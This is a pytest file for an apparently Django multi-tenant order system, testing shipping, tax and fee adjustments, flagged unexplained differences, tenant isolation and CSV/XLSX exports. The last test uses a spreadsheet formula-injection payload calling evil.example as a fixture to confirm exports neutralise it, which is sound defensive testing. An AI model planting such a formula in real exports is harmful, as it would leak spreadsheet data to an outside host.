"""Orders that add up: ingest keeps the channel's shipping, discounts, tax, fees and other adjustments beside the
lines, an unexplained difference where the channel's numbers do not add up (flagged, never hidden); the order
page shows the breakdown and the exports carry the adjustments."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import replace
from datetime import timedelta
from decimal import Decimal

import pytest
from django.db.models import Sum
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from acorn.tenancy.models import Membership, Tenant
from acorn.tenancy.scoping import tenant_scope
from channels.adapters.base import AdjustmentKind, ExternalAdjustment, ExternalOrder, ExternalOrderLine
from orders.models import Order, OrderAdjustment, OrderLine
from orders.services import order_upsert_page
from tests.factories import StoreFactory

pytestmark = pytest.mark.django_db
URL = "/app/orders/"


def _order(
    external_id: str = "WC-2726",
    *,
    currency: str = "EUR",
    total: str = "35.17",
    adjustments: tuple[ExternalAdjustment, ...] | None = None,
    updated_minutes: int = 0,
) -> ExternalOrder:
    """WooCommerce order 2726 of the review: a line of 24.66 + 4.68 tax, 4.90 shipping + 0.93 tax = 35.17."""
    now = timezone.now().replace(microsecond=0) - timedelta(days=1)
    line = ExternalOrderLine(
        external_id="901",
        sku="MUG-BLUE",
        quantity=2,
        currency=currency,
        unit_price=Decimal("12.33"),
        item_amount=Decimal("27.40"),
        discount_amount=Decimal("2.74"),
        tax_amount=Decimal("4.68"),
    )
    if adjustments is None:
        adjustments = (
            ExternalAdjustment(
                kind=AdjustmentKind.SHIPPING, amount=Decimal("4.90"), label="Flat rate", external_id="7"
            ),
            ExternalAdjustment(
                kind=AdjustmentKind.SHIPPING_TAX, amount=Decimal("0.93"), label="Flat rate", external_id="7"
            ),
        )
    return ExternalOrder(
        external_id=external_id,
        marketplace="",
        purchased_at=now,
        updated_at=now + timedelta(minutes=updated_minutes),
        raw_status="processing",
        status="paid_unshipped",
        fulfillment_channel="merchant",
        currency=currency,
        total_amount=Decimal(total),
        buyer_country="DE",
        lines=(line,),
        adjustments=adjustments,
    )


def _adds_up(order: Order) -> bool:
    with tenant_scope(order.tenant):
        lines = OrderLine.objects.filter(order=order).aggregate(total=Sum("total_amount"))["total"] or Decimal(0)
        adjustments = OrderAdjustment.objects.filter(order=order).aggregate(total=Sum("amount"))["total"]
    return lines + (adjustments or Decimal(0)) == order.total_amount


def test_the_reviewers_woocommerce_order_adds_up_with_its_shipping_and_shipping_tax(tenant: Tenant) -> None:
    # given: order 2726 with 24.66 + 4.68 tax on its line and 4.90 + 0.93 shipping
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant, platform="woocommerce", marketplaces=[])
        # when: it is ingested
        order_upsert_page(store=store, orders=[_order()])
        order = Order.objects.get()
        line = OrderLine.objects.get()
        adjustments = list(OrderAdjustment.objects.order_by("position").values_list("kind", "label", "amount"))
    # then: the line's total, the adjustments and the channel's total agree to the cent
    assert line.total_amount == Decimal("29.34")
    assert adjustments == [
        (AdjustmentKind.SHIPPING, "Flat rate", Decimal("4.90")),
        (AdjustmentKind.SHIPPING_TAX, "Flat rate", Decimal("0.93")),
    ]
    assert _adds_up(order) and order.adds_up and order.unexplained_amount == 0
    # and the per-kind summary adds up the same way
    assert (order.item_amount, order.discount_amount, order.shipping_amount, order.tax_amount) == (
        Decimal("27.40"),
        Decimal("2.74"),
        Decimal("4.90"),
        Decimal("5.61"),
    )
    assert order.item_amount - order.discount_amount + order.shipping_amount + order.tax_amount == order.total_amount


def test_a_total_the_channel_does_not_itemise_becomes_a_flagged_unexplained_difference(tenant: Tenant) -> None:
    # given: a channel total 0.03 above what it itemises
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant, platform="woocommerce", marketplaces=[])
        order_upsert_page(store=store, orders=[_order(total="35.20")])
        order = Order.objects.get()
        unexplained = OrderAdjustment.objects.get(kind=AdjustmentKind.UNEXPLAINED)
    # then: it is kept as one adjustment, on the order, and the order still adds up to the channel's total
    assert (unexplained.amount, order.unexplained_amount, order.other_amount) == (
        Decimal("0.03"),
        Decimal("0.03"),
        Decimal("0.03"),
    )
    assert _adds_up(order) and not order.adds_up


def test_ingest_twice_keeps_one_set_of_adjustments_and_a_change_replaces_them(tenant: Tenant) -> None:
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant, platform="woocommerce", marketplaces=[])
        # given: the order ingested twice
        order_upsert_page(store=store, orders=[_order()])
        order_upsert_page(store=store, orders=[_order()])
        assert OrderAdjustment.objects.count() == 2
        # when: the channel changes it (free shipping now, a fee added) and an older copy arrives after
        fee = ExternalAdjustment(kind=AdjustmentKind.FEE, amount=Decimal("2.00"), label="COD", external_id="8")
        newer = _order(total="31.34", adjustments=(fee,), updated_minutes=30)
        order_upsert_page(store=store, orders=[newer])
        order_upsert_page(store=store, orders=[_order()])  # the older copy changes nothing
        order = Order.objects.get()
        kinds = list(OrderAdjustment.objects.values_list("kind", "amount"))
    # then: the adjustments are the channel's latest, and the order adds up
    assert kinds == [(AdjustmentKind.FEE, Decimal("2.00"))]
    assert _adds_up(order) and order.adds_up and order.shipping_amount == 0


def test_line_level_charges_name_their_line_and_yen_has_no_decimals(tenant: Tenant) -> None:
    # given: an Amazon JP order whose item has gift wrap, amounts in yen with stray decimals
    wrap = ExternalAdjustment(
        kind=AdjustmentKind.GIFT_WRAP, amount=Decimal("300.4"), label="GIFT_WRAP", line_external_id="901"
    )
    incoming = _order("250-1234567-1234567", currency="JPY", total="2708", adjustments=(wrap,))
    incoming = replace(
        incoming,
        lines=(
            replace(
                incoming.lines[0],
                item_amount=Decimal("2400"),
                discount_amount=Decimal("200.2"),
                tax_amount=Decimal("208"),
            ),
        ),
    )
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant, marketplaces=["JP"], region="FE")
        order_upsert_page(store=store, orders=[incoming])
        order = Order.objects.get()
        adjustment = OrderAdjustment.objects.get()
        line = OrderLine.objects.get()
    # then: amounts are whole yen, the gift wrap belongs to its line, and the order adds up
    assert (line.discount_amount, line.total_amount, adjustment.amount) == (Decimal(200), Decimal(2408), Decimal(300))
    assert adjustment.line_id == line.pk and _adds_up(order) and order.adds_up


def test_another_tenants_adjustments_are_not_visible(tenant: Tenant, other_tenant: Tenant) -> None:
    with tenant_scope(other_tenant):
        order_upsert_page(store=StoreFactory(tenant=other_tenant, platform="woocommerce"), orders=[_order()])
    with tenant_scope(tenant):
        order_upsert_page(store=StoreFactory(tenant=tenant, platform="woocommerce"), orders=[_order(total="35.20")])
        mine = list(OrderAdjustment.objects.values_list("kind", flat=True))
    assert sorted(mine) == sorted([AdjustmentKind.SHIPPING, AdjustmentKind.SHIPPING_TAX, AdjustmentKind.UNEXPLAINED])


def test_order_page_shows_the_breakdown_and_flags_the_unexplained_difference(
    owner_client: Client,
    tenant: Tenant,
    client_for: Callable[[Membership], Client],
    other_owner: Membership,
) -> None:
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant, platform="woocommerce", marketplaces=[])
        order_upsert_page(store=store, orders=[_order(), _order("WC-2727", total="35.20")])
        fine = Order.objects.get(external_id="WC-2726")
        off = Order.objects.get(external_id="WC-2727")
    page = owner_client.get(f"{URL}{fine.pk}/").content.decode()
    # lines, each adjustment with the channel's own name, the totals, and the identity
    for text in ("29.34", "Flat rate", "Tax on shipping", "4.90", "0.93", "35.17", "Adjustments", "Totals"):
        assert text in page, text
    assert "Unexplained difference" not in page
    flagged = owner_client.get(f"{URL}{off.pk}/").content.decode()
    assert "Unexplained difference" in flagged and "0.03 EUR" in flagged
    # the list filter finds exactly the orders that do not add up
    listed = owner_client.get(URL, {"money": "unexplained"}).content.decode()
    assert "WC-2727" in listed and "WC-2726" not in listed
    # another tenant's member gets 404 on the page
    assert client_for(other_owner).get(f"{URL}{fine.pk}/").status_code == 404
    # and the breakdown speaks Chinese too
    owner_client.post(reverse("set_language"), {"language": "zh-hans", "next": f"{URL}{off.pk}/"})
    chinese = owner_client.get(f"{URL}{off.pk}/").content.decode()
    assert "调整项" in chinese and "运费税" in chinese and "无法解释的差额" in chinese


def test_exports_carry_adjustment_rows_whose_row_totals_make_each_order_total(
    owner_client: Client, tenant: Tenant
) -> None:
    with tenant_scope(tenant):
        store = StoreFactory(tenant=tenant, platform="woocommerce", marketplaces=[])
        yen = _order("JP-1", currency="JPY", total="2708", adjustments=())
        yen = replace(
            yen,
            lines=(
                replace(yen.lines[0], item_amount=Decimal(2500), discount_amount=Decimal(0), tax_amount=Decimal(208)),
            ),
        )
        order_upsert_page(store=store, orders=[_order(), _order("WC-2727", total="35.20"), yen])
    body = b"".join(owner_client.get(URL + "export.csv").streaming_content).decode("utf-8").lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body)))
    by_order: dict[str, list[dict[str, str]]] = {}
    for row in rows:
        by_order.setdefault(row["Order id"], []).append(row)
    assert {order_id: len(found) for order_id, found in by_order.items()} == {"WC-2726": 3, "WC-2727": 4, "JP-1": 1}
    for order_id, found in by_order.items():
        assert sum(Decimal(row["Row total"]) for row in found) == Decimal(found[0]["Order total"]), order_id
    unexplained = [row for row in by_order["WC-2727"] if row["Adjustment"] == "Unexplained difference"]
    assert [(row["Row"], row["Row total"], row["Unexplained difference"]) for row in unexplained] == [
        ("Adjustment", "0.03", "0.03")
    ]
    # yen without decimals, euro with two
    assert by_order["JP-1"][0]["Order total"] == "2708" and by_order["WC-2726"][0]["Order total"] == "35.17"

    xlsx = owner_client.get(URL + "export.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert sheet is not None
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    total_column = header.index("Row total")
    formats = {row[0].value: row[total_column].number_format for row in sheet.iter_rows(min_row=2) if row[0].value}
    assert formats["JP-1"] == "#,##0" and formats["WC-2726"] == "#,##0.00"
    assert sum(1 for _ in sheet.iter_rows()) == 1 + len(rows)


def test_the_order_exports_neutralise_a_channel_title_that_looks_like_a_formula(
    owner_client: Client, tenant: Tenant
) -> None:
    # given an order whose line title the channel sent as a formula
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    order = _order("WC-3001")
    order = replace(order, lines=(replace(order.lines[0], title=formula),))
    with tenant_scope(tenant):
        order_upsert_page(store=StoreFactory(tenant=tenant, platform="woocommerce", marketplaces=[]), orders=[order])
    # when
    body = b"".join(owner_client.get(URL + "export.csv").streaming_content).decode("utf-8").lstrip("\ufeff")
    xlsx = owner_client.get(URL + "export.xlsx")
    # then: an apostrophe in the CSV, a string cell in the workbook; the amounts stay numbers
    line = next(row for row in csv.DictReader(io.StringIO(body)) if row["Row"] == "Line")
    assert line["Title"] == "'" + formula and line["Row total"] == "29.34"
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    rows = list(sheet.iter_rows())
    title = [cell.value for cell in rows[0]].index("Title")
    cell = next(row[title] for row in rows[1:] if row[title].value)
    assert cell.value == formula and cell.data_type == "s"
